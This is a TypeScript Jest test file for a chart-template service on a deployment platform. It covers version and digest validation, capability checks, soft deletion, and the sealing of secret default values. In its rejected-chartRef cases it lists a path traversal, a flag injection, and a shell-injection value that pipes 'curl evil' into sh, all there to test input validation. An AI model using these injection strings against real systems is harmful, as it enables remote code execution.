import { join, resolve } from 'node:path';
import { FakeStore, fakeProductsRepository, fakeTemplatesRepository } from '../../../../test/support/domain-fakes';
import { expectDomainError } from '../../../../test/support/deployments-fixture';
import { ENCRYPTED_KEY, REDACTED, SecretBox, ValuesValidator } from '../values';
import { CreateTemplateInput, TemplatesService } from './templates.service';

const chartsRoot = resolve(__dirname, '../../../../charts');
const localChart = join(chartsRoot, 'examples', 'webapp-1.0.0');
const DIGEST = `sha256:${'0123456789abcdef'.repeat(4)}`;

describe(TemplatesService.name, () => {
  const box = new SecretBox(Buffer.alloc(32, 4));
  let store: FakeStore;
  let sut: TemplatesService;
  let productId: string;

  const input = (over: Partial<CreateTemplateInput> = {}): CreateTemplateInput => ({ version: '1.0.0', chartRef: localChart, chartVersion: '1.0.0', ...over });
  const problems = async (p: Promise<unknown>, code = 'InvalidInput') => (await expectDomainError(p, code)).fields;

  beforeEach(() => {
    store = new FakeStore();
    sut = new TemplatesService(fakeProductsRepository(store) as never, fakeTemplatesRepository(store) as never, new ValuesValidator(), [chartsRoot], box);
    productId = store.addProduct().id;
  });

  it('creates a template from a local chart inside the roots', async () => {
    const t = await sut.create(
      productId,
      input({ defaultValues: { replicas: 1 }, valuesSchema: { type: 'object' }, capabilities: { quota: { cpu: '2', memory: '4Gi' }, upgradePolicy: { allowFrom: '>=1.0.0' } } }),
    );
    expect(t).toMatchObject({ productId, version: '1.0.0', chartRef: localChart, chartDigest: null, defaultValues: { replicas: 1 }, valuesSchema: { type: 'object' } });
    expect(store.templates.size).toBe(1);
  });

  it('creates a template from an oci:// chart pinned by digest, and requires the digest', async () => {
    expect((await sut.create(productId, input({ chartRef: 'oci://127.0.0.1:5001/charts/webapp', chartDigest: DIGEST }))).chartDigest).toBe(DIGEST);
    expect(await problems(sut.create(productId, input({ version: '1.0.1', chartRef: 'oci://127.0.0.1:5001/charts/webapp' })))).toEqual([
      { field: 'chartDigest', message: expect.stringMatching(/required for oci/) },
    ]);
  });

  it.each(['sha256:abc', `sha256:${'A'.repeat(64)}`, `sha512:${'a'.repeat(64)}`, `${'a'.repeat(64)}`, `sha256:${'a'.repeat(65)}`])('refuses the digest %s', async (chartDigest) => {
    expect(await problems(sut.create(productId, input({ chartDigest })))).toEqual([{ field: 'chartDigest', message: 'must be sha256:<64 lower-case hex>' }]);
  });

  it.each(['1', '1.0', '1.0.0.0', 'latest', '01.0.0', '1.0.0-', 'x'.repeat(70), 'v1.0.0', '=1.0.0', ' 1.0.0', '1.0.0 '])('refuses the version %j', async (version) => {
    expect(await problems(sut.create(productId, input({ version })))).toContainEqual({ field: 'version', message: expect.stringMatching(/semantic version/) });
  });

  it.each(['1.0.0', '0.0.1', '1.2.3-rc.1', '1.2.3+build.5', '10.20.30-alpha.1+meta'])('accepts the version %s', async (version) => {
    expect((await sut.create(productId, input({ version }))).version).toBe(version);
  });

  it('refuses a chart version that is not semver', async () => {
    expect(await problems(sut.create(productId, input({ chartVersion: 'stable' })))).toEqual([{ field: 'chartVersion', message: expect.stringMatching(/semantic version/) }]);
  });

  it.each([
    ['a traversal out of the roots', `${chartsRoot}/../package.json`],
    ['a relative path', 'charts/examples/webapp-1.0.0'],
    ['a flag', '--set=image.repository=evil'],
    ['shell text', 'oci://r.example/x;curl evil|sh'],
    ['an https URL', 'https://charts.example.com/webapp-1.0.0.tgz'],
    ['a directory without Chart.yaml', join(chartsRoot, 'examples')],
  ])('refuses %s as chartRef', async (_, chartRef) => {
    expect((await problems(sut.create(productId, input({ chartRef })))).map((p) => p.field)).toEqual(['chartRef']);
  });

  it('refuses a schema ajv cannot compile and malformed default values', async () => {
    const fields = await problems(sut.create(productId, input({ valuesSchema: { type: 'nope' }, defaultValues: [] as never })));
    expect(fields.map((f) => f.field).sort()).toEqual(['defaultValues', 'valuesSchema']);
  });

  it('accepts two versions whose schemas share an $id', async () => {
    const schema = () => ({ $id: 'https://charts.example.com/webapp/values.schema.json', type: 'object' });
    await sut.create(productId, input({ valuesSchema: schema() }));
    expect((await sut.create(productId, input({ version: '1.1.0', valuesSchema: schema() }))).version).toBe('1.1.0');
  });

  it.each([
    [{ gpu: {} }, 'capabilities.gpu'],
    [{ quota: { cpu: 'lots' } }, 'capabilities.quota.cpu'],
    [{ quota: { memory: 512 } }, 'capabilities.quota.memory'],
    [{ quota: 'x' }, 'capabilities.quota'],
    [{ limits: { max: { cpu: '1 core' } } }, 'capabilities.limits.max.cpu'],
    [{ limits: [] }, 'capabilities.limits'],
    [{ upgradePolicy: { allowFrom: 5 } }, 'capabilities.upgradePolicy'],
    [{ upgradePolicy: { allowFrom: 'whenever' } }, 'capabilities.upgradePolicy'],
    [{ upgradePolicy: 'always' }, 'capabilities.upgradePolicy'],
    [{ backend: 'argo' }, 'capabilities.backend'],
    [{ backend: 7 }, 'capabilities.backend'],
    // Flux pulls the chart itself: a directory on the worker is out of its reach.
    [{ backend: 'flux' }, 'capabilities.backend'],
  ])('refuses the capabilities %j', async (capabilities, field) => {
    expect((await problems(sut.create(productId, input({ capabilities: capabilities as never })))).map((p) => p.field)).toEqual([field]);
  });

  it('takes either release backend, flux with an oci:// chart', async () => {
    expect((await sut.create(productId, input({ capabilities: { backend: 'helm' } }))).capabilities).toEqual({ backend: 'helm' });
    const flux = await sut.create(productId, input({ version: '2.0.0', chartRef: 'oci://registry.example.com/charts/webapp', chartDigest: DIGEST, capabilities: { backend: 'flux' } }));
    expect(flux.capabilities).toEqual({ backend: 'flux' });
  });

  it('reports every problem at once and writes nothing', async () => {
    const fields = await problems(sut.create(productId, input({ version: 'x', chartVersion: 'y', chartRef: '-x', chartDigest: 'z', capabilities: { nope: 1 } as never })));
    expect(fields.map((f) => f.field).sort()).toEqual(['capabilities.nope', 'chartDigest', 'chartRef', 'chartVersion', 'version']);
    expect(store.templates.size).toBe(0);
  });

  it('refuses a second template with the same version: templates are immutable', async () => {
    await sut.create(productId, input());
    expect(await problems(sut.create(productId, input({ chartVersion: '9.9.9' })), 'Conflict')).toEqual([{ field: 'version', message: 'already exists' }]);
  });

  it('404s for a missing or deleted product', async () => {
    await problems(sut.create('00000000-0000-4000-8000-000000000000', input()), 'NotFound');
    const gone = store.addProduct({ name: 'gone', deletedAt: new Date() }).id;
    await problems(sut.create(gone, input()), 'NotFound');
    await problems(sut.list(gone, { limit: 10 }), 'NotFound');
  });

  it('gets a template only under its own product', async () => {
    const t = await sut.create(productId, input());
    expect((await sut.get(productId, t.id)).id).toBe(t.id);
    await problems(sut.get(store.addProduct({ name: 'other' }).id, t.id), 'NotFound');
  });

  it('deletes softly and idempotently', async () => {
    const t = await sut.create(productId, input());
    await sut.delete(productId, t.id);
    const deletedAt = store.templates.get(t.id)!.deletedAt;
    expect(deletedAt).not.toBeNull();
    await sut.delete(productId, t.id);
    expect(store.templates.get(t.id)!.deletedAt).toEqual(deletedAt);
    await problems(sut.get(productId, t.id), 'NotFound');
    await problems(sut.delete(store.addProduct({ name: 'other' }).id, t.id), 'NotFound');
  });

  describe('secret default values', () => {
    const schema = {
      type: 'object',
      properties: { smtp: { properties: { password: { type: 'string', 'x-caelus-secret': true } } }, user: { properties: { adminPassword: { $ref: '#/$defs/pw' }, title: { type: 'string' } } } },
      $defs: { pw: { type: 'string', 'x-caelus-secret': true } },
    };
    const defaults = { smtp: { password: 'smtp-Default-pw', host: 'mail' }, user: { adminPassword: 'admin-Default-pw', title: 'Hello' } };

    it('are sealed at rest, bound to the template, and shown redacted on create, get and list', async () => {
      const created = await sut.create(productId, input({ defaultValues: defaults, valuesSchema: schema }));
      const stored = store.templates.get(created.id)!.defaultValues as { smtp: Record<string, never>; user: Record<string, never> };
      expect(JSON.stringify(stored)).not.toMatch(/Default-pw/);
      expect(box.open(stored.smtp.password, { owner: 'template', id: created.id, path: '/smtp/password' })).toBe('smtp-Default-pw');
      expect(box.open(stored.user.adminPassword, { owner: 'template', id: created.id, path: '/user/adminPassword' })).toBe('admin-Default-pw');
      const shown = { smtp: { password: REDACTED, host: 'mail' }, user: { adminPassword: REDACTED, title: 'Hello' } };
      expect(created.defaultValues).toEqual(shown);
      expect((await sut.get(productId, created.id)).defaultValues).toEqual(shown);
      expect((await sut.list(productId, { limit: 10 })).items[0].defaultValues).toEqual(shown);
    });

    it('redacts a secret default stored in clear (a row from before defaults were sealed)', async () => {
      const t = store.addTemplate(productId, { defaultValues: defaults, valuesSchema: schema });
      expect((await sut.get(productId, t.id)).defaultValues).toEqual({ smtp: { password: REDACTED, host: 'mail' }, user: { adminPassword: REDACTED, title: 'Hello' } });
    });

    it.each([
      ['defaultValues', { defaultValues: { user: { adminPassword: { [ENCRYPTED_KEY]: 'v2.x.y.z.w' } } } }, 'defaultValues/user/adminPassword/$caelusEncrypted'],
      ['valuesSchema', { valuesSchema: { type: 'object', properties: { [ENCRYPTED_KEY]: { type: 'string' } } } }, 'valuesSchema/properties/$caelusEncrypted'],
    ])('refuses a client-made envelope in %s and writes nothing', async (_where, over, field) => {
      expect(await problems(sut.create(productId, input(over)))).toEqual([{ field, message: expect.stringMatching(/reserved/) }]);
      expect(store.templates.size).toBe(0);
    });
  });
});
